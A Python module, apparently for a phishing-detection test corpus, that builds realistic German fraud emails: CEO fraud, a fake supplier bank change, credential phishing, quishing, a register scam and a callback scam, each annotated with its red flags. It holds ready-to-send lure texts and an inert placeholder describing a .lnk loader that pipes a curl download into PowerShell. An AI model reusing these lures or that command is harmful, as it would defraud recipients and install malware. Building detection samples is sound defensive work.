"""German messages (attack 01-08, business 01-08)."""
from . import docs, jpeg, mime, mta, ooxml, qr, zipx
from . import util as U
from . import world as W
from .core import (P, Msg, att, boundary_ol, once, esc, gmail_html, outlook_alt, outlook_att, outlook_html,
                   outlook_mixed, outlook_quote_header, paras_html, tb_html)

L = W.LIEFERANT
DE = W.OFFICES["DE"]

LIEF_SELLER = dict(name="Lieferant GmbH", lines=[
    "Kunstverpackung · Klimakisten · Depotlagerung",
    "Gewerbering 14 · 85737 Ismaning · Tel. +49 89 9699 318-0",
    "www.lieferant-gmbh.de · rechnungen@lieferant-gmbh.de"],
    return_line="Lieferant GmbH · Gewerbering 14 · 85737 Ismaning")
LIEF_FOOTER = ["Lieferant GmbH · Sitz Ismaning · %s · Geschäftsführer: Wolfgang Lang, Stefan Maier" % L["hrb"],
               "USt-IdNr. %s · Steuernummer 146/123/50871" % L["ustid"]]

EXAMPLE_BUYER = ["Example Group Auktionen GmbH", "Kreditorenbuchhaltung", "Prannerstraße 9", "80333 München"]


def _lieferant(m, root, helo, ip):
    return m.finish(mta.postfix_relay, root, relay="mail.lieferant-gmbh.de", relay_ip="203.0.113.25",
                    client_helo=helo, client_rdns="unknown", client_ip=ip, dkim_sel="mail2026",
                    order=mta.outlook_desktop_order(m, m.rng))


def sig_lieferant(name, role, ext):
    return ("Mit freundlichen Grüßen\n\n%s\n%s\n\nLieferant GmbH\nKunstverpackung · Klimakisten · Depotlagerung\n"
            "Gewerbering 14, 85737 Ismaning\nTel. +49 89 9699 318-%s\nwww.lieferant-gmbh.de\n\n"
            "Sitz der Gesellschaft: Ismaning · %s\nGeschäftsführer: Wolfgang Lang, Stefan Maier" % (
                name, role, ext, L["hrb"]))


# =================================================================== ATTACKS
def a01():
    m = Msg("01-de-ceo-fraud-vertraulich-whatsapp.eml", "attack", "de")
    m.frm = ("Konstantin Rehberg", "konstantin.rehberg@exarnplegroup.eu")
    m.to = [("Sabine Kühnel", "sabine.kuehnel@example.com")]
    m.subject = "Vertraulich – kurze Abstimmung heute"
    m.date = U.local("CET", 2026, 11, 12, 7, 46, 51)
    m.ol_server = U.outlook_server(m.rng, "EUR")
    m.msgid = U.outlook_msgid(m.rng, m.ol_server)
    m.content_lang = "de-DE"
    text = ("Guten Morgen Sabine,\n\nbist du heute Vormittag im Büro und erreichbar? Ich brauche deine Unterstützung "
            "bei einer sehr vertraulichen Angelegenheit (Übernahme einer Privatsammlung, Projektname \"Lenbach\"). "
            "Bitte sprich vorerst mit niemandem intern darüber, auch nicht mit Andreas oder der Buchhaltung – "
            "die Gegenseite hat auf absolute Diskretion bestanden, die Pressemitteilung kommt erst nach Signing.\n\n"
            "Ich sitze den ganzen Tag in Terminen und kann nicht telefonieren. Schick mir bitte kurz deine "
            "aktuelle Handynummer, dann melde ich mich über WhatsApp und gebe dir die Details. Unser Anwalt in "
            "Zürich wird sich danach ebenfalls bei dir melden.\n\nDanke dir!\nKonstantin\n\nVon Outlook für iOS gesendet")
    html = ('<html><head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>\n<body>\n'
            '<div dir="ltr">\n<div dir="ltr">%s</div>\n<div dir="ltr"><br></div>\n'
            '<div id="ms-outlook-mobile-signature" dir="ltr"><div dir="ltr">Von <a href="https://aka.ms/o0ukef">'
            'Outlook für iOS</a> gesendet</div></div>\n</div>\n</body>\n</html>\n') % "<br>\n".join(
        esc(l) for l in text.rsplit("\n\n", 1)[0].split("\n"))
    root = outlook_alt(m, text, html, "utf-8", "base64", "base64")
    m.what = ("CEO fraud opener: 'Konstantin Rehberg' from the look-alike domain exarnplegroup.eu (rn instead of m) "
              "asks the CFO for discretion and her mobile number to move to WhatsApp (acquisition 'Projekt Lenbach').")
    m.why = ("Look-alike of examplegroup.eu registered with a Microsoft 365 tenant (SPF/DKIM pass, no DMARC record), "
             "secrecy pressure, exclusion of colleagues, channel switch to WhatsApp; no payment data yet so content "
             "filters see nothing; sent as 'Outlook for iOS'.")
    return m.finish(mta.m365, root, region="EUR", lang="de")


def a02():
    m = Msg("02-de-lieferant-lookalike-bankverbindung.eml", "attack", "de")
    m.frm = ("Petra Lang", "p.lang@lieferant-gmhb.de")
    m.to = [("Wöhrle, Jana", "jana.woehrle@example.com")]
    m.subject = "AW: Rechnung 2026-10517 / Zahlungseingang – aktualisierte Bankverbindung"
    m.date = U.local("CET", 2026, 11, 19, 9, 2, 14)
    m.ol_server = U.outlook_server(m.rng, "EUR")
    m.msgid = U.outlook_msgid(m.rng, m.ol_server)
    m.thread_topic = "Rechnung 2026-10517 / Zahlungseingang – aktualisierte Bankverbindung"
    iban = W.ids.make_iban("DE", "10011001" + "2718440395")
    m.fact("ibans", iban)
    prev = outlook_quote_header("de", "Petra Lang", "p.lang@lieferant-gmbh.de", U.local("CET", 2026, 10, 12, 10, 14),
                                "CET", "Wöhrle, Jana <jana.woehrle@example.com>", "Änderung unserer Bankverbindung zum 01.11.2026")
    text = ("Sehr geehrte Frau Wöhrle,\n\nvielen Dank für Ihre Rückmeldung. Leider müssen wir Ihnen mitteilen, dass "
            "bei der Umstellung auf unsere neue Hausbank (siehe Schreiben vom 12.10.) Probleme aufgetreten sind: Die "
            "VR Bank hat das neue Geschäftskonto im Rahmen der Legitimationsprüfung vorübergehend für Eingänge "
            "gesperrt, Überweisungen werden derzeit zurückgebucht. Die alte Verbindung bei der Kreissparkasse ist "
            "bereits aufgelöst.\n\nDamit es bei der Rechnung 2026-10517 über 4.447,03 EUR (fällig seit 17.11.) zu "
            "keinen Mahngebühren kommt, bitten wir Sie, den Betrag ausnahmsweise auf unser Verrechnungskonto zu "
            "überweisen:\n\nKontoinhaber: Lieferant GmbH\nIBAN: %s\nBIC: NTSBDEB1XXX\nVerwendungszweck: RE 2026-10517\n\n"
            "Die Bestätigung unserer Geschäftsführung finden Sie im Anhang. Da ich diese Woche überwiegend im Lager "
            "in Ismaning bin, erreichen Sie mich am besten per E-Mail. Für eine kurze Bestätigung, wann die Zahlung "
            "veranlasst wird, wären wir dankbar.\n\n%s\n\n%s\n\n%s") % (
                W.ids.fmt_iban(iban), sig_lieferant("Petra Lang", "Buchhaltung / Auftragsabwicklung", "22"), prev,
                b01().body_text)
    html = outlook_html(text, "utf-8", "DE")
    alt = outlook_alt(m, text, html, "utf-8")
    letter = docs.letter(
        m.file, "Bestätigung Bankverbindung", dict(name="Lieferant GmbH", lines=LIEF_SELLER["lines"],
                                                    return_line=LIEF_SELLER["return_line"]),
        EXAMPLE_BUYER, "Ismaning, 18.11.2026", "Bestätigung unserer Bankverbindung für offene Rechnungen",
        ["Sehr geehrte Damen und Herren,",
         "aufgrund der laufenden Kontoumstellung bei unserer neuen Hausbank bitten wir Sie, Zahlungen für offene "
         "Rechnungen bis auf Weiteres ausschließlich auf das unten genannte Verrechnungskonto zu leisten. Zahlungen "
         "auf andere Konten können derzeit nicht zugeordnet werden.",
         "Wir bitten um Ihr Verständnis und danken für die gute Zusammenarbeit."],
        "Mit freundlichen Grüßen", ["Wolfgang Lang", "Geschäftsführer"], footer=LIEF_FOOTER,
        producer="Microsoft® Word für Microsoft 365", creator="Microsoft® Word für Microsoft 365",
        created="D:20261118164210+01'00'", author="Petra Lang",
        boxes=[["Kontoinhaber: Lieferant GmbH", "Bank: N26 Bank SE", "IBAN %s" % W.ids.fmt_iban(iban),
                "BIC: NTSBDEB1XXX"]])
    pdfp = outlook_att("application/pdf", letter, "Bestätigung_Bankverbindung_Lieferant_GmbH.pdf", m.date)
    root = outlook_mixed(m, alt, [pdfp])
    m.what = ("Bank-detail change for supplier Lieferant GmbH from the look-alike domain lieferant-gmhb.de "
              "('hb' swapped), replying to the real October announcement and naming the real open invoice "
              "2026-10517 (4.447,03 EUR); asks payment to an N26 'Verrechnungskonto', PDF 'confirmation' by the MD.")
    m.why = ("Transposed look-alike domain with its own M365 tenant (auth passes for the wrong domain), IBAN differs "
             "from both the announced VR Bank account and the invoice, excuse about a blocked account, asks for "
             "e-mail-only contact (no call-back), knowledge of the invoice suggests an earlier mailbox compromise.")
    return m.finish(mta.m365, root, region="EUR", lang="de")


def a03():
    m = Msg("03-de-kompromittiert-canva-dokument.eml", "attack", "de")
    m.frm = ("Stefan Maier", "s.maier@lieferant-gmbh.de")
    m.to = [("Stefan Maier", "s.maier@lieferant-gmbh.de")]
    m.rcpts = ["florian.huber@example.com"]
    m.subject = "Stefan Maier hat Ihnen ein Dokument freigegeben: Angebot_Klimakisten_2027.pdf"
    m.date = U.local("CET", 2026, 11, 26, 15, 37, 2)
    m.msgid = "<%s@lieferant-gmbh.de>" % U.uuid4(m.rng)
    m.hcharset = ("utf-8", "Q")
    url = ("https://www.canva.com/design/DAGx7kQz3Lw/Jm5Yf2qT8vRb1sNc0HdK9A/view?utm_content=DAGx7kQz3Lw"
           "&utm_campaign=designshare&utm_medium=link2&utm_source=uniquelinks&utlId=h4e2c1a9b7d")
    text = ("Hallo,\n\nStefan Maier (Lieferant GmbH) hat ein Dokument für Sie freigegeben.\n\n"
            "Angebot_Klimakisten_2027.pdf\n2 Seiten · PDF · 1,4 MB\n\nDokument ansehen:\n%s\n\n"
            "Bitte prüfen Sie das Angebot bis Freitag, die Preise für 2027 sind nur bis 30.11. gültig.\n\n"
            "Mit freundlichen Grüßen\nStefan Maier\nLieferant GmbH\nGewerbering 14, 85737 Ismaning\n"
            "Tel. +49 89 9699 318-15\n" % url)
    html = ('<!DOCTYPE html>\n<html>\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=UTF-8">\n'
            '</head>\n<body style="font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#1f1f1f">\n'
            '<table width="100%%" cellpadding="0" cellspacing="0" style="background:#f4f5f7;padding:24px 0">'
            '<tr><td align="center">\n<table width="520" cellpadding="0" cellspacing="0" style="background:#ffffff;'
            'border:1px solid #e1e3e8;border-radius:6px">\n<tr><td style="padding:28px 32px">\n'
            '<p style="margin:0 0 16px 0">Hallo,</p>\n<p style="margin:0 0 20px 0"><b>Stefan Maier</b> '
            '(Lieferant GmbH) hat ein Dokument f&uuml;r Sie freigegeben.</p>\n'
            '<table cellpadding="0" cellspacing="0" style="border:1px solid #d9dce3;border-radius:4px;width:100%%">'
            '<tr><td style="padding:14px 16px"><span style="font-size:15px;font-weight:bold">'
            'Angebot_Klimakisten_2027.pdf</span><br><span style="color:#6b7280;font-size:12px">2 Seiten &middot; '
            'PDF &middot; 1,4 MB</span></td></tr></table>\n'
            '<p style="margin:24px 0"><a href="%s" style="background:#7d2ae8;color:#ffffff;text-decoration:none;'
            'padding:11px 22px;border-radius:4px;font-weight:bold">Dokument ansehen</a></p>\n'
            '<p style="margin:0 0 16px 0">Bitte pr&uuml;fen Sie das Angebot bis Freitag, die Preise f&uuml;r 2027 '
            'sind nur bis 30.11. g&uuml;ltig.</p>\n<p style="margin:0">Mit freundlichen Gr&uuml;&szlig;en<br>'
            'Stefan Maier<br>Lieferant GmbH<br>Gewerbering 14, 85737 Ismaning<br>Tel. +49 89 9699 318-15</p>\n'
            '</td></tr></table>\n</td></tr></table>\n</body>\n</html>\n') % url.replace("&", "&amp;")
    root = P("multipart/alternative", boundary=U.tb_boundary(m.rng), children=[
        P("text/plain", text=text, charset="utf-8", cte="quoted-printable", ct_style="std"),
        P("text/html", text=html, charset="utf-8", cte="quoted-printable")])
    m.ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Thunderbird/128.4.2"
    m.what = ("Document-share lure sent from the real, compromised mailbox of Stefan Maier (Lieferant GmbH) through "
              "the supplier's own relay: 'shared document' button leads to a Canva design that links on to a "
              "credential-harvesting page.")
    m.why = ("Genuine infrastructure and DKIM/DMARC pass, but: To is the sender himself with recipients in Bcc "
             "(mass mailing to his contact list), Thunderbird instead of his usual Outlook, HTML imitating a share "
             "notification, link to Canva instead of the supplier's Nextcloud, artificial deadline.")
    return m.finish(mta.postfix_relay, root, relay="mail.lieferant-gmbh.de", relay_ip="203.0.113.25",
                    client_helo="[10.8.0.14]", client_rdns="unknown", client_ip="198.51.100.203",
                    dkim_sel="mail2026", auth_user="s.maier@lieferant-gmbh.de",
                    order=["Message-ID", "Date", "MIME-Version", "=User-Agent: " + m.ua, "From", "To",
                           "Subject", "Content-Language", "__MIME__"])


def a04():
    m = Msg("04-de-einlieferer-passwort-zip-lnk.eml", "attack", "de")
    m.frm = ("Bernd Weißenfels", "b.weissenfels@gmx.de")
    m.to = [("charlotte.reiss@example.com", "charlotte.reiss@example.com")]
    m.to = [("", "charlotte.reiss@example.com")]
    m.subject = "Nachlass Weißenfels – Fotos und Inventarliste (Gemälde 17./18. Jh.)"
    m.date = U.local("CET", 2026, 10, 28, 18, 42, 9)
    m.msgid = "<trinity-%s-%d@3c-app-gmx-bap%02d>" % (U.uuid4(m.rng), U.ts(m.date) * 1000 + 417, 52)
    m.web_slot = 52
    m.client_ip = "198.51.100.61"
    pw = "Nachlass2026"
    text = ("Sehr geehrte Frau Dr. Reiß,\n\nIhr Name wurde mir von einem Bekannten aus dem Kunsthandel genannt. "
            "Mein Vater, Dr. Helmut Weißenfels (Rosenheim), ist im Sommer verstorben und hat eine kleine Sammlung "
            "von Gemälden hinterlassen, überwiegend niederländisch und süddeutsch, 17. und 18. Jahrhundert, "
            "darunter ein Stillleben, das in der Familie immer Jan Davidsz. de Heem zugeschrieben wurde, und zwei "
            "kleine Landschaften auf Kupfer.\n\nWir sind eine Erbengemeinschaft von drei Geschwistern und möchten die "
            "Sammlung gerne über Ihr Haus versteigern lassen, eventuell schon in der Frühjahrsauktion.\n\n"
            "Die Fotos und die Inventarliste meines Vaters (mit Provenienzangaben und Rechnungen aus den 70er Jahren) "
            "habe ich Ihnen in eine ZIP-Datei gepackt. Da meine Geschwister darauf bestehen, dass die Unterlagen "
            "nicht ungeschützt verschickt werden, ist das Archiv mit einem Kennwort versehen:\n\n"
            "Kennwort: %s\n\nFür eine erste Einschätzung wäre ich Ihnen sehr dankbar. Gerne können Sie mich auch "
            "anrufen: +49 8031 4287 113.\n\nMit freundlichen Grüßen\nBernd Weißenfels\n" % pw)
    html = ('<html><head></head><body><div style="font-family: Verdana;font-size: 12.0px;"><div>%s</div></div>'
            '</body></html>\n' % "</div>\n<div>".join(esc(l) if l else "&nbsp;" for l in text.split("\n")))
    photo = jpeg.encode(360, 270, jpeg.painting_photo(m.rng, 360, 270), quality=80,
                        exif=("samsung", "SM-A536B", "2026:10:25 14:03:51"))
    lnk = ("INERT TEST PLACEHOLDER - NOT EXECUTABLE.\r\nRepresents a Windows shortcut (.lnk) named like a PDF "
           "whose target would be: C:\\Windows\\System32\\conhost.exe --headless cmd /c curl -s "
           "hxxps://cdn-nachlass-docs[.]top/inv.php | powershell -\r\nIn a real attack this file is a malware loader.\r\n")
    z = zipx.build_zip([("Inventarliste_Nachlass_Weissenfels.pdf.lnk", lnk.encode(), (2026, 10, 28, 18, 20, 14)),
                        ("Fotos/IMG_20261025_140351.jpg", photo, (2026, 10, 25, 14, 3, 52))],
                       rng=m.rng, password=pw, made_by=0x0014)
    fname = "Nachlass_Weissenfels_Fotos_Inventar.zip"
    m.zip_passwords[fname] = pw
    m.fact("phones", "+49 8031 4287 113")
    m.fact("other", "ZIP password in body: %s" % pw)
    root = P("multipart/mixed", boundary="abmob-%s" % U.uuid4(m.rng), children=[
        P("multipart/alternative", boundary="abmob-%s" % U.uuid4(m.rng), children=[
            P("text/plain", text=text, charset="UTF-8", cte="quoted-printable"),
            P("text/html", text=html, charset="UTF-8", cte="quoted-printable")]),
        att("application/zip", z, fname, fn_style="raw8")])
    m.what = ("Fake consignor (GMX webmail) offers an estate of Old Master paintings to the specialist; photos and "
              "'inventory' come in a password-protected ZIP holding a decoy photo and "
              "'Inventarliste…pdf.lnk' (shortcut loader, represented inert).")
    m.why = ("Password-protected archive defeats scanning, password in the same mail, .pdf.lnk double extension, "
             "unsolicited free-mail sender with a compelling trade story (de Heem attribution) aimed at the "
             "Old Masters specialist.")
    return m.finish(mta.ionos, root, gmx=True, web=True,
                    order=["MIME-Version", "Message-ID", "From", "To", "Subject", "__MIME__", "Date",
                           "=Importance: normal", "=Sensitivity: Normal"])


def a05():
    m = Msg("05-de-registerfalle-eintragungsofferte-girocode.eml", "attack", "de")
    m.frm = ("Deutsches Unternehmensregister-Portal", "service@durp-register.de")
    m.to = [("", "jana.woehrle@example.com")]
    m.subject = "Registereintrag Example Group Auktionen GmbH – Aktualisierung und Veröffentlichung (Az. DURP-2026-447815)"
    m.date = U.local("CET", 2026, 11, 4, 10, 31, 40)
    m.msgid = "<202611040931.%d@smtp-relay.mailin.fr>" % m.rng.randint(10 ** 10, 10 ** 11)
    iban = W.ids.make_iban("LT", "35000" + "10003471852")
    m.fact("ibans", iban)
    payload = m.qr("BCD\n002\n1\nSCT\nEVIULT2VXXX\nDURP Register Services UAB\n%s\nEUR949.62\n\n\n"
                   "DURP-2026-447815 HRB 231845\n" % iban)
    text = ("Sehr geehrte Damen und Herren,\n\nim Rahmen der jährlichen Aktualisierung des Deutschen "
            "Unternehmensregister-Portals (DURP) haben wir die Eintragung Ihres Unternehmens\n\n"
            "Example Group Auktionen GmbH, Prannerstraße 9, 80333 München\nAmtsgericht München HRB 231845\n\n"
            "vorbereitet. Bitte prüfen Sie die beigefügten Daten und bestätigen Sie die Veröffentlichung durch "
            "Überweisung der Eintragungsgebühr gemäß beiliegender Übersicht. Zur Vereinfachung können Sie den "
            "GiroCode mit Ihrer Banking-App scannen.\n\nAktenzeichen: DURP-2026-447815\nBearbeitungsfrist: 18.11.2026\n\n"
            "Mit freundlichen Grüßen\nIhr DURP-Serviceteam\nDeutsches Unternehmensregister-Portal\n"
            "https://www.durp-register.de\n\nAbmelden: https://r.durp-register.de/unsub?e=jana.woehrle%40example.com\n")
    html = ("<!DOCTYPE html><html><head><meta charset=\"utf-8\"></head><body style=\"font-family:Georgia,serif;"
            "font-size:14px;color:#222\"><div style=\"max-width:600px;margin:0 auto;border-top:6px solid #1f3b63;"
            "padding:20px\"><p style=\"font-size:18px;color:#1f3b63\"><b>Deutsches Unternehmensregister-Portal</b>"
            "</p>%s<p style=\"font-size:11px;color:#777\"><a href=\"https://r.durp-register.de/unsub?e=jana.woehrle%%40"
            "example.com\">Abmelden</a></p></div></body></html>\n") % paras_html(text.rsplit("\n\nAbmelden", 1)[0])
    offer = docs.invoice(
        m.file, "Eintragungsofferte DURP-2026-447815",
        dict(name="DURP · Deutsches Unternehmensregister-Portal", lines=[
            "Ein Angebot der DURP Register Services UAB · Konstitucijos pr. 21A · LT-08130 Vilnius",
            "www.durp-register.de · service@durp-register.de"],
            return_line="DURP Register Services UAB · Konstitucijos pr. 21A · LT-08130 Vilnius"),
        ["Example Group Auktionen GmbH", "z. Hd. Geschäftsführung / Buchhaltung", "Prannerstraße 9", "80333 München"],
        [("Aktenzeichen", "DURP-2026-447815"), ("Datum", "04.11.2026"), ("Registernummer", "HRB 231845"),
         ("Zahlbar bis", "18.11.2026")],
        ["Pos.", "Leistung", "Menge", "Einzelpreis", "Betrag"],
        [["1", "Aktualisierung und Veröffentlichung Registereintrag (Branche: Auktionshäuser, Kunsthandel) "
               "inkl. Firmenprofil, Laufzeit 12 Monate", "1", "798,00 €", "798,00 €"]],
        [("Nettobetrag", "798,00 €", False), ("zzgl. 19 % USt.", "151,62 €", False), ("Gesamtbetrag", "949,62 €", True)],
        notes=["Mit Zahlung des Gesamtbetrags nehmen Sie dieses Angebot an. Der Vertrag verlängert sich automatisch um "
               "jeweils 12 Monate, sofern er nicht 3 Monate vor Ablauf schriftlich gekündigt wird. Es gelten unsere "
               "AGB (www.durp-register.de/agb). Diese Eintragungsofferte ist keine Rechnung einer Behörde und steht "
               "in keinem Zusammenhang mit dem Handelsregister.",
               "Bankverbindung: DURP Register Services UAB · IBAN %s · BIC EVIULT2VXXX" % W.ids.fmt_iban(iban)],
        qr_payload=payload, qr_caption="GiroCode\nmit Banking-App scannen",
        footer=["DURP Register Services UAB · Vilnius · Įmonės kodas 306418295 · PVM LT100015418217"],
        producer="TCPDF 6.7.5 (http://www.tcpdf.org)", creator="TCPDF", created="D:20261104093011+00'00'",
        accent=(0.12, 0.23, 0.39))
    root = P("multipart/mixed", boundary="----=_NextPart_%s" % U.hexs(m.rng, 24), children=[
        P("multipart/alternative", boundary="----=_AltPart_%s" % U.hexs(m.rng, 24), children=[
            P("text/plain", text=text, charset="utf-8", cte="quoted-printable"),
            P("text/html", text=html, charset="utf-8", cte="quoted-printable")]),
        att("application/pdf", offer, "DURP-2026-447815_Eintragung.pdf", fn_style="rfc2231")])
    m.what = ("Register/directory scam: 'Deutsches Unternehmensregister-Portal' sends an official-looking "
              "'Eintragungsofferte' for the real HRB number with a GiroCode (EPC QR) for 949,62 EUR to a "
              "Lithuanian EMI account; the small print makes payment a 12-month auto-renewing contract.")
    m.why = ("Misleading quasi-official register offer with payment QR, foreign payee behind a German-sounding "
             "name, deadline; sent through Brevo with the scammer's own domain authenticated.")
    return m.finish(mta.brevo, root, list_unsub="https://r.durp-register.de/unsub?e=jana.woehrle%40example.com")


def a06():
    m = Msg("06-de-quishing-mfa-pdf-qr.eml", "attack", "de")
    m.frm = ("IT-Service Example Group", "wordpress@physio-lechner-ulm.de")
    m.to = [("", "monika.strauss@example.com")]
    m.reply_to = [("IT-Service", "it-service@examplegroup-helpdesk.com")]
    m.subject = "Pflichtaktualisierung: MFA-Neuregistrierung bis 27.11.2026 (Microsoft Authenticator)"
    m.date = U.local("CET", 2026, 11, 25, 6, 58, 31)
    m.msgid = "<%s@physio-lechner-ulm.de>" % U.b64(m.rng, 32, urlsafe=True)
    url = "https://examplegroup-mfa.com/auth/?u=bW9uaWthLnN0cmF1c3NAZXhhbXBsZS5jb20="
    payload = m.qr(url)
    text = ("Sehr geehrte Mitarbeiterin, sehr geehrter Mitarbeiter,\n\nim Zuge der Umstellung auf die neue "
            "Sicherheitsrichtlinie (NIS2) müssen alle Konten bis spätestens 27.11.2026 erneut für die "
            "Mehrfaktor-Authentifizierung registriert werden. Konten ohne Neuregistrierung werden automatisch "
            "gesperrt; E-Mail und VPN stehen dann nicht mehr zur Verfügung.\n\nDie Anleitung mit Ihrem persönlichen "
            "Registrierungscode finden Sie im angehängten Dokument. Bitte scannen Sie den QR-Code mit der "
            "Kamera Ihres Smartphones und folgen Sie den Anweisungen.\n\nMit freundlichen Grüßen\nIT-Service\n"
            "Example Group\n")
    doc = docs.letter(
        m.file, "MFA-Richtlinie 2026", dict(name="Example Group · IT-Service", lines=[
            "Informationssicherheit · Richtlinie IT-SEC-07 (Version 3.2)"]),
        ["An: monika.strauss@example.com", "Abteilung: Personal"], "München, 25.11.2026",
        "Neuregistrierung Mehrfaktor-Authentifizierung (MFA) – Frist 27.11.2026",
        ["Ihr Konto monika.strauss@example.com wurde für die verpflichtende MFA-Neuregistrierung ausgewählt. "
         "Scannen Sie den folgenden QR-Code mit der Kamera Ihres Smartphones (nicht mit dem Arbeitsrechner), "
         "melden Sie sich mit Ihrem gewohnten Kennwort an und bestätigen Sie die Anfrage in der "
         "Microsoft-Authenticator-App.",
         "Der Code ist personalisiert und 48 Stunden gültig. Nach Ablauf der Frist wird der Zugang zu E-Mail, "
         "VPN und Personalsoftware gesperrt."],
        "Vielen Dank für Ihre Mitwirkung.", ["IT-Service / Informationssicherheit"],
        footer=["Dieses Dokument ist vertraulich und nur für den internen Gebrauch bestimmt."],
        producer="Skia/PDF m131", creator="Chromium", created="D:20261124221502+00'00'",
        qr_payload=payload, qr_caption="Mit der Smartphone-Kamera scannen\nCode gültig bis 27.11.2026, 23:59 Uhr",
        accent=(0.0, 0.36, 0.6))
    bnd = "b1=_%s" % U.b64(m.rng, 30, urlsafe=True)
    root = P("multipart/mixed", boundary=bnd, children=[
        P("text/plain", text=text, charset="utf-8", cte="8bit", ct_style="unquoted"),
        att("application/pdf", doc, "MFA_Richtlinie_2026_Mitarbeiter.pdf", fn_style="rfc2231")],
        preamble="This is a multi-part message in MIME format.")
    m.envfrom = "www-data@web41.alfahosting-server.de"
    m.what = ("Quishing: 'IT-Service Example Group' demands MFA re-registration by 27.11.; the PDF carries a "
              "personalised QR code leading to an adversary-in-the-middle Microsoft login on examplegroup-mfa.com.")
    m.why = ("Sent by PHPMailer from a hacked WordPress site (physio-lechner-ulm.de), Reply-To a look-alike helpdesk "
             "domain, URL only inside a QR image in a PDF, asks to scan with the phone (outside company protection), "
             "lockout threat and NIS2 pretext; the real IT never sends such mails from external domains.")
    return m.finish(mta.phpmailer, root, host="web41.alfahosting-server.de", host_ip="203.0.113.141",
                    spf="none", envfrom=m.envfrom)


def a07():
    m = Msg("07-de-elster-zertifikat-phishing-ses.eml", "attack", "de")
    m.frm = ("ELSTER – Ihr Online-Finanzamt", "noreply@mein-elster-portal.de")
    m.to = [("", "sabine.kuehnel@example.com")]
    m.subject = "Ihr ELSTER-Organisationszertifikat läuft am 30.11.2026 ab – Verlängerung erforderlich"
    m.date = U.local("CET", 2026, 11, 24, 11, 12, 5)
    m.msgid = mta.ses_msgid(m.rng, m.date, "eu-central-1")
    url = "https://mein-elster-portal.de/zertifikat/verlaengern?sid=7Fq2LxA9mT4p&kn=1432178940"
    text = ("Sehr geehrte Nutzerin, sehr geehrter Nutzer,\n\ndas Organisationszertifikat Ihres Benutzerkontos "
            "(Kontonummer 1432178940, Example Group Auktionen GmbH) läuft am 30.11.2026 ab. Ohne rechtzeitige "
            "Verlängerung können Umsatzsteuer-Voranmeldungen und Lohnsteuer-Anmeldungen ab Dezember nicht mehr "
            "elektronisch übermittelt werden; es können Verspätungszuschläge nach § 152 AO festgesetzt werden.\n\n"
            "Bitte verlängern Sie das Zertifikat jetzt:\n%s\n\nHalten Sie Ihre Zertifikatsdatei (.pfx) und Ihr "
            "Passwort bereit.\n\nMit freundlichen Grüßen\nIhr ELSTER-Team\n\nDiese E-Mail wurde automatisch erstellt. "
            "Bitte antworten Sie nicht auf diese Nachricht.\n" % url)
    html = ('<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>ELSTER</title></head>'
            '<body style="margin:0;background:#eef1f4;font-family:Arial,sans-serif">'
            '<table width="100%%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:20px">'
            '<table width="600" cellpadding="0" cellspacing="0" style="background:#fff">'
            '<tr><td style="background:#004b76;padding:16px 24px;color:#fff;font-size:20px"><b>ELSTER</b> '
            '<span style="font-size:13px">Ihr Online-Finanzamt</span></td></tr>'
            '<tr><td style="padding:24px;font-size:14px;color:#222;line-height:1.5">%s'
            '<p><a href="%s" style="background:#0a6ebd;color:#fff;padding:10px 20px;text-decoration:none;'
            'border-radius:3px">Zertifikat jetzt verlängern</a></p></td></tr>'
            '<tr><td style="padding:14px 24px;font-size:11px;color:#666;border-top:1px solid #ddd">Diese E-Mail wurde '
            'automatisch erstellt. Bitte antworten Sie nicht auf diese Nachricht.<br>&copy; 2026 Bayerisches '
            'Landesamt für Steuern</td></tr></table></td></tr></table></body></html>\n') % (
        paras_html(text.split("\n\nBitte verlängern")[0]), url.replace("&", "&amp;"))
    root = P("multipart/alternative", boundary="----=_Part_%d_%d.%d" % (
        m.rng.randint(100000, 999999), m.rng.randint(10 ** 8, 10 ** 9), U.ts(m.date) * 1000),
        children=[P("text/plain", text=text, charset="UTF-8", cte="quoted-printable"),
                  P("text/html", text=html, charset="UTF-8", cte="quoted-printable")])
    m.envfrom = "0107%s@eu-central-1.amazonses.com" % U.hexs(m.rng, 12)
    m.what = ("ELSTER credential phishing: certificate 'expires 30.11.2026', link to mein-elster-portal.de asking "
              "for the .pfx certificate file and its password; sent through Amazon SES (eu-central-1).")
    m.why = ("Look-alike domain, ELSTER never e-mails links to renew certificates or asks for the .pfx, penalty "
             "threat (§ 152 AO), bulk-mail infrastructure; SPF/DKIM pass for the look-alike only.")
    return m.finish(mta.ses, root, region="eu-central-1")


def a08():
    m = Msg("08-de-callback-rechnung-norton.eml", "attack", "de")
    m.frm = ("Kundenservice Abrechnung", "abrechnung.kundendienst.de24@gmail.com")
    m.to = [("", "elena.brueckner@example.com")]
    m.subject = "Bestellbestätigung #DE-448172-9 – Ihre Zahlung wurde autorisiert"
    m.date = U.local("CET", 2026, 12, 9, 16, 21, 44)
    m.msgid = U.gmail_msgid(m.rng)
    phone = "+49 30 2555 73190"
    m.fact("phones", phone)
    text = ("Sehr geehrte Kundin, sehr geehrter Kunde,\n\nvielen Dank für Ihre Bestellung. Die Rechnung finden Sie "
            "im Anhang.\n\nDer Betrag wird innerhalb von 24 Stunden von Ihrem hinterlegten Zahlungsmittel abgebucht. "
            "Falls Sie diese Bestellung nicht veranlasst haben, wenden Sie sich bitte umgehend an unsere "
            "Stornoabteilung.\n\nMit freundlichen Grüßen\nKundenservice\n")
    inv = docs.invoice(
        m.file, "Rechnung DE-448172-9",
        dict(name="NortonLifeLock – Rechnungsstelle", lines=["Rechnung / Zahlungsbestätigung",
                                                             "Kundenservice (Mo–Sa 8–20 Uhr): " + phone]),
        ["Elena Brückner", "elena.brueckner@example.com"],
        [("Rechnungsnummer", "DE-448172-9"), ("Datum", "09.12.2026"), ("Zahlungsart", "Lastschrift / Kreditkarte"),
         ("Status", "AUTORISIERT")],
        ["Pos.", "Produkt", "Menge", "Preis", "Summe"],
        [["1", "Norton 360 Premium – 10 Geräte, Abonnement 3 Jahre (automatische Verlängerung)", "1", "389,99 €",
          "389,99 €"]],
        [("Zwischensumme", "327,72 €", False), ("MwSt. 19 %", "62,27 €", False), ("Gesamt", "389,99 €", True)],
        notes=["Nicht von Ihnen bestellt? Stornierung und Erstattung nur innerhalb von 24 Stunden telefonisch "
